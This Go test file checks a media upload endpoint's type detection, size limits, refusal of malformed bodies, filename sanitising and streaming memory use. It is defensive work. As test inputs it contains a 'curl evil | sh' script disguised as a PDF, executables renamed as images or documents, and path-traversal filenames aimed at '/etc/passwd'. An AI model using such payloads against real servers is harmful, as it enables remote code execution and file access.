package rest_test

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"io/fs"
	"mime/multipart"
	"net/http"
	"net/http/httptest"
	"net/textproto"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/connectme/connectme/db"
	"github.com/connectme/connectme/testkit"
)

// zeros yields zero bytes forever.
type zeros struct{}

func (zeros) Read(p []byte) (int, error) {
	clear(p)
	return len(p), nil
}

// sized returns a reader of exactly size bytes starting with head, never holding
// more than head in memory.
func sized(head []byte, size int64) io.Reader {
	return io.MultiReader(bytes.NewReader(head), io.LimitReader(zeros{}, size-int64(len(head))))
}

var (
	jpegHead = []byte("\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00")
	pngHead  = []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01")
	pdfHead  = []byte("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n")
	mp4Head  = append([]byte("\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isomiso2"), make([]byte, 64)...)
	oggHead  = append(append(append([]byte("OggS"), make([]byte, 24)...), "OpusHead"...), make([]byte, 64)...)
	elfHead  = append([]byte("\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00\x3e\x00"), make([]byte, 64)...)
)

// mediaEnv is the app with one company, its agent and another company's agent.
type mediaEnv struct {
	app        *testkit.App
	agent      *db.User
	token      string
	otherToken string
	companyID  int64
}

func newMediaEnv(t *testing.T) *mediaEnv {
	t.Helper()
	spec(t) // load the OpenAPI document now, not inside a memory measurement
	app := testkit.NewApp(t)
	c := testkit.Company(t, app.DB)
	other := testkit.Company(t, app.DB)
	agent := testkit.Agent(t, app.DB, c.ID)
	return &mediaEnv{
		app:        app,
		agent:      agent,
		token:      app.Token(agent),
		otherToken: app.Token(testkit.Agent(t, app.DB, other.ID)),
		companyID:  c.ID,
	}
}

// part is one multipart part: a form field name, a Content-Disposition filename
// (raw, as it goes on the wire) and its content.
type part struct {
	field, disposition string
	content            io.Reader
}

// fileField is the usual "file" part with a quoted filename.
func fileField(filename string, content io.Reader) part {
	return part{field: "file", disposition: fmt.Sprintf(`form-data; name="file"; filename=%q`, filename), content: content}
}

// send streams a multipart body built from parts through an io.Pipe, so large
// bodies are generated on the fly, and returns the answer.
func (e *mediaEnv) send(t *testing.T, token string, parts ...part) *testkit.Response {
	t.Helper()
	pr, pw := io.Pipe()
	mw := multipart.NewWriter(pw)
	go func() {
		for _, p := range parts {
			h := textproto.MIMEHeader{}
			h.Set("Content-Disposition", p.disposition)
			h.Set("Content-Type", "image/jpeg") // a lying client header; the content decides
			w, err := mw.CreatePart(h)
			if err != nil {
				pw.CloseWithError(err)
				return
			}
			if _, err := io.Copy(w, p.content); err != nil {
				pw.CloseWithError(err)
				return
			}
		}
		pw.CloseWithError(mw.Close())
	}()
	return e.raw(t, token, mw.FormDataContentType(), pr)
}

// sendSmall is send with the whole (small) body built first: the request goes out
// with its Content-Length in one write, so a server that answers a refusal before
// reading the rest cannot race the client's last chunked write (which a streamed
// body can lose with "use of closed network connection").
func (e *mediaEnv) sendSmall(t *testing.T, token string, parts ...part) *testkit.Response {
	t.Helper()
	var body bytes.Buffer
	mw := multipart.NewWriter(&body)
	for _, p := range parts {
		h := textproto.MIMEHeader{}
		h.Set("Content-Disposition", p.disposition)
		h.Set("Content-Type", "image/jpeg")
		w, err := mw.CreatePart(h)
		if err == nil {
			_, err = io.Copy(w, p.content)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := mw.Close(); err != nil {
		t.Fatal(err)
	}
	return e.raw(t, token, mw.FormDataContentType(), bytes.NewReader(body.Bytes()))
}

// raw posts body to /media/save with the given Content-Type.
func (e *mediaEnv) raw(t *testing.T, token, contentType string, body io.Reader) *testkit.Response {
	t.Helper()
	req, err := http.NewRequest(http.MethodPost, e.app.Server.URL+"/media/save", body)
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Content-Type", contentType)
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	resp, err := e.app.Server.Client().Do(req)
	if c, ok := body.(io.Closer); ok {
		// Unblocks the writer when the server answered before reading everything.
		c.Close()
	}
	if err != nil {
		t.Fatalf("POST /media/save: %v", err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	out := &testkit.Response{Status: resp.StatusCode, Header: resp.Header, Body: b}
	// The upload is streamed: only the answer is checked against the document.
	checkExchange(t, cloneForDocument(req, "/media/save"), nil, false, out)
	return out
}

// cloneForDocument is req as the OpenAPI checks see it: path and headers, no body.
func cloneForDocument(req *http.Request, path string) *http.Request {
	doc := httptest.NewRequest(req.Method, path, nil)
	doc.Header = req.Header.Clone()
	return doc
}

// get requests path (with its query) without following redirects.
func (e *mediaEnv) get(t *testing.T, method, path, token string, headers ...string) *testkit.Response {
	t.Helper()
	req, err := http.NewRequest(method, e.app.Server.URL+path, nil)
	if err != nil {
		t.Fatal(err)
	}
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	for i := 0; i+1 < len(headers); i += 2 {
		req.Header.Set(headers[i], headers[i+1])
	}
	client := *e.app.Server.Client()
	client.CheckRedirect = func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }
	resp, err := client.Do(req)
	if err != nil {
		t.Fatalf("%s %s: %v", method, path, err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	out := &testkit.Response{Status: resp.StatusCode, Header: resp.Header, Body: b}
	checkExchange(t, cloneForDocument(req, path), nil, true, out)
	return out
}

type saved struct {
	Name         string `json:"name"`
	Size         int64  `json:"size"`
	DocumentType string `json:"documentType"`
	AttachmentID int64  `json:"attachmentId"`
	ContentType  string `json:"contentType"`
	URL          string `json:"url"`
}

// upload saves content as filename and expects a 201.
func (e *mediaEnv) upload(t *testing.T, filename string, content []byte) saved {
	t.Helper()
	r := e.send(t, e.token, fileField(filename, bytes.NewReader(content)))
	if r.Status != http.StatusCreated {
		t.Fatalf("upload %s: %d %s", filename, r.Status, r.Body)
	}
	var s saved
	r.JSON(t, &s)
	return s
}

// storedFiles returns the regular files under MEDIA_DIR, relative to it.
func (e *mediaEnv) storedFiles(t *testing.T) []string {
	t.Helper()
	var out []string
	dir := e.app.Config.MediaDir
	err := filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if !d.IsDir() {
			rel, _ := filepath.Rel(dir, p)
			out = append(out, filepath.ToSlash(rel))
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return out
}

// signedPath returns the path and query of the signed link the API gives out.
func (e *mediaEnv) signedPath(t *testing.T, id int64) string {
	t.Helper()
	u, err := url.Parse(e.app.Resolver.AttachmentURL(&db.Attachment{ID: id, State: db.AttachmentStored}))
	if err != nil {
		t.Fatal(err)
	}
	return u.RequestURI()
}

func expectError(t *testing.T, r *testkit.Response, status int) map[string]any {
	t.Helper()
	if r.Status != status {
		t.Fatalf("status %d, want %d: %s", r.Status, status, r.Body)
	}
	m := r.Map(t)
	if m["statusCode"] != float64(status) {
		t.Errorf("not the NestJS error shape: %s", r.Body)
	}
	return m
}

var keyPattern = regexp.MustCompile(`^[0-9a-f]{2}/[0-9a-f]{2}/[0-9a-f]{32}$`)

func TestSaveMedia_TypeComesFromContentNotNameOrHeader(t *testing.T) {
	e := newMediaEnv(t)
	cases := []struct {
		filename, wantType, wantCT string
		content                    []byte
	}{
		{"holiday.jpg", "IMAGE", "image/jpeg", append(jpegHead, make([]byte, 1000)...)},
		{"scan.pdf", "IMAGE", "image/png", append(pngHead, make([]byte, 1000)...)},
		{"photo.jpg", "DOCUMENT", "application/pdf", append(pdfHead, make([]byte, 1000)...)},
		{"clip.mp4", "VIDEO", "video/mp4", mp4Head},
		{"voice.ogg", "AUDIO", "audio/ogg", oggHead},
		{"notes.txt", "DOCUMENT", "text/plain; charset=utf-8", []byte("call back on monday\n")},
	}
	for _, tc := range cases {
		t.Run(tc.filename, func(t *testing.T) {
			s := e.upload(t, tc.filename, tc.content)
			if s.Name != tc.filename || s.Size != int64(len(tc.content)) || s.DocumentType != tc.wantType ||
				s.ContentType != tc.wantCT || s.AttachmentID <= 0 {
				t.Fatalf("answer %+v", s)
			}
			r := e.get(t, http.MethodGet, fmt.Sprintf("/media/%d", s.AttachmentID), e.token)
			if r.Status != http.StatusOK || !bytes.Equal(r.Body, tc.content) {
				t.Fatalf("GET: %d, %d bytes", r.Status, len(r.Body))
			}
			if r.Header.Get("Content-Type") != tc.wantCT || r.Header.Get("X-Content-Type-Options") != "nosniff" {
				t.Errorf("headers %v", r.Header)
			}
		})
	}
	// The legacy field types: attachmentId and size are numbers.
	r := e.send(t, e.token, fileField("a.pdf", bytes.NewReader(pdfHead)))
	var raw map[string]json.RawMessage
	r.JSON(t, &raw)
	for _, k := range []string{"attachmentId", "size"} {
		if v := string(raw[k]); v == "" || v[0] == '"' {
			t.Errorf("%s = %s, want a number", k, v)
		}
	}
	for _, f := range e.storedFiles(t) {
		if !keyPattern.MatchString(f) {
			t.Errorf("stored file %q is not under a generated name", f)
		}
	}
}

func TestSaveMedia_BadInputIsAClear4xxAndLeavesNothing(t *testing.T) {
	e := newMediaEnv(t)
	truncated := "--XYZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.pdf\"\r\n\r\n" +
		string(pdfHead) + strings.Repeat("x", 10_000) // no closing boundary: the client gave up
	cases := []struct {
		name   string
		do     func() *testkit.Response
		status int
		want   string
	}{
		{"no file field", func() *testkit.Response {
			return e.send(t, e.token, part{field: "name", disposition: `form-data; name="name"`, content: strings.NewReader("x")})
		}, 400, "file should not be empty"},
		{"file field without a part body", func() *testkit.Response {
			return e.send(t, e.token, fileField("empty.pdf", strings.NewReader("")))
		}, 400, "file should not be empty"},
		{"truncated multipart body", func() *testkit.Response {
			return e.raw(t, e.token, "multipart/form-data; boundary=XYZ", strings.NewReader(truncated))
		}, 400, "cut short"},
		{"multipart without a boundary", func() *testkit.Response {
			return e.raw(t, e.token, "multipart/form-data", strings.NewReader("--x\r\n"))
		}, 400, "multipart/form-data"},
		{"JSON instead of multipart", func() *testkit.Response {
			return e.raw(t, e.token, "application/json", strings.NewReader(`{"file":"aGVsbG8="}`))
		}, 400, "multipart/form-data"},
		{"garbage before the first boundary", func() *testkit.Response {
			return e.raw(t, e.token, "multipart/form-data; boundary=XYZ", strings.NewReader("garbage with no boundary at all"))
		}, 400, "file"},
		{"image over 5 MB", func() *testkit.Response {
			return e.send(t, e.token, fileField("big.png", sized(pngHead, 5_000_001)))
		}, 413, "image files may be at most 5 MB"},
		{"video over 16 MB", func() *testkit.Response {
			return e.send(t, e.token, fileField("big.mp4", sized(mp4Head, 16_000_001)))
		}, 413, "video files may be at most 16 MB"},
		{"declared larger than any file", func() *testkit.Response {
			req, _ := http.NewRequest(http.MethodPost, e.app.Server.URL+"/media/save", sized(pdfHead, 200_000_000))
			req.ContentLength = 200_000_000
			req.Header.Set("Content-Type", "multipart/form-data; boundary=XYZ")
			req.Header.Set("Authorization", "Bearer "+e.token)
			resp, err := e.app.Server.Client().Do(req)
			if err != nil {
				t.Fatalf("POST: %v", err)
			}
			defer resp.Body.Close()
			b, _ := io.ReadAll(resp.Body)
			return &testkit.Response{Status: resp.StatusCode, Header: resp.Header, Body: b}
		}, 413, "larger than"},
		{"ELF executable renamed .jpg", func() *testkit.Response {
			return e.send(t, e.token, fileField("cute-cat.jpg", bytes.NewReader(elfHead)))
		}, 400, "executable"},
		{"shell script renamed .pdf", func() *testkit.Response {
			return e.send(t, e.token, fileField("invoice.pdf", strings.NewReader("#!/bin/sh\ncurl evil | sh\n")))
		}, 400, "executable"},
		{"Windows executable", func() *testkit.Response {
			return e.send(t, e.token, fileField("setup.docx", sized([]byte("MZ\x90\x00\x03\x00\x00\x00"), 4096)))
		}, 400, "executable"},
		{"no token", func() *testkit.Response {
			return e.send(t, "", fileField("a.pdf", bytes.NewReader(pdfHead)))
		}, 401, "Unauthorized"},
		{"bad token", func() *testkit.Response {
			return e.send(t, "not-a-token", fileField("a.pdf", bytes.NewReader(pdfHead)))
		}, 401, "Unauthorized"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			m := expectError(t, tc.do(), tc.status)
			if msg := fmt.Sprint(m["message"]); !strings.Contains(msg, tc.want) {
				t.Errorf("message %q does not say %q", msg, tc.want)
			}
			if tc.status == 413 && m["error"] != "Payload Too Large" {
				t.Errorf("error = %v, want Payload Too Large", m["error"])
			}
			if files := e.storedFiles(t); len(files) != 0 {
				t.Errorf("a refused upload left files in MEDIA_DIR: %v", files)
			}
			if r := e.app.Do(http.MethodGet, "/healthz", "", nil); r.Status != http.StatusOK {
				t.Fatalf("server unhealthy after the refusal: %d", r.Status)
			}
		})
	}
	var n int
	if err := e.app.DB.NewRaw("SELECT count(*) FROM attachments").Scan(context.Background(), &n); err != nil || n != 0 {
		t.Errorf("attachments recorded for refused uploads: %d (%v)", n, err)
	}
	// The server still takes a good upload.
	e.upload(t, "after.pdf", pdfHead)
}

func TestSaveMedia_FilenameIsDataNeverAPath(t *testing.T) {
	e := newMediaEnv(t)
	cases := []struct{ name, disposition, want string }{
		{"traversal", `form-data; name="file"; filename="../../etc/passwd"`, "passwd"},
		{"windows traversal", `form-data; name="file"; filename="..\\..\\windows\\win.ini"`, "win.ini"},
		{"encoded traversal and control characters", `form-data; name="file"; filename*=UTF-8''..%2F..%2Fevil%01%07%E2%80%AEtxt.pdf`, "eviltxt.pdf"},
		{"no filename", `form-data; name="file"`, "file.pdf"},
		{"only dots", `form-data; name="file"; filename=".."`, "file.pdf"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			r := e.send(t, e.token, part{field: "file", disposition: tc.disposition, content: bytes.NewReader(pdfHead)})
			if r.Status != http.StatusCreated {
				t.Fatalf("status %d: %s", r.Status, r.Body)
			}
			var s saved
			r.JSON(t, &s)
			if s.Name != tc.want {
				t.Errorf("name = %q, want %q", s.Name, tc.want)
			}
			g := e.get(t, http.MethodGet, fmt.Sprintf("/media/%d", s.AttachmentID), e.token)
			if cd := g.Header.Get("Content-Disposition"); !strings.HasPrefix(cd, "attachment; ") || strings.ContainsAny(cd, "/\\\x01") {
				t.Errorf("Content-Disposition %q", cd)
			}
		})
	}
	for _, f := range e.storedFiles(t) {
		if !keyPattern.MatchString(f) {
			t.Errorf("stored file %q is not under a generated name", f)
		}
	}
	if _, err := os.Stat(filepath.Join(e.app.Config.MediaDir, "..", "..", "etc", "passwd")); err == nil {
		t.Error("a file was written outside MEDIA_DIR")
	}
}

// TestSaveMedia_100MBStreamsWithFlatMemory sends a 100 MB document (the largest
// allowed) generated on the fly and checks that neither side buffers it.
func TestSaveMedia_100MBStreamsWithFlatMemory(t *testing.T) {
	e := newMediaEnv(t)
	const size = 100_000_000
	runtime.GC()
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	start := time.Now()
	r := e.send(t, e.token, fileField("big.pdf", sized(pdfHead, size)))
	runtime.ReadMemStats(&after)
	if r.Status != http.StatusCreated {
		t.Fatalf("status %d: %s", r.Status, r.Body)
	}
	var s saved
	r.JSON(t, &s)
	if s.Size != size || s.DocumentType != "DOCUMENT" {
		t.Fatalf("answer %+v", s)
	}
	allocated := after.TotalAlloc - before.TotalAlloc
	heapGrowth := int64(after.HeapInuse) - int64(before.HeapInuse)
	t.Logf("100 MB upload in %v: %d KB allocated, heap in use %+d KB", time.Since(start).Round(time.Millisecond), allocated/1024, heapGrowth/1024)
	// Everything allocated while 100 MB went through (client and server together)
	// is a small fraction of the file: it was streamed, not held.
	if allocated > 16<<20 {
		t.Errorf("%d MB allocated for a 100 MB upload: the body is being buffered", allocated>>20)
	}
	if heapGrowth > 16<<20 {
		t.Errorf("heap grew by %d MB during a 100 MB upload", heapGrowth>>20)
	}
	st, err := os.Stat(filepath.Join(e.app.Config.MediaDir, e.storedFiles(t)[0]))
	if err != nil || st.Size() != size {
		t.Fatalf("stored file: %v, %v", st, err)
	}
	// (One byte more is refused: media.TestStore_EachTypeIsCutOffAtItsLimit.)
}
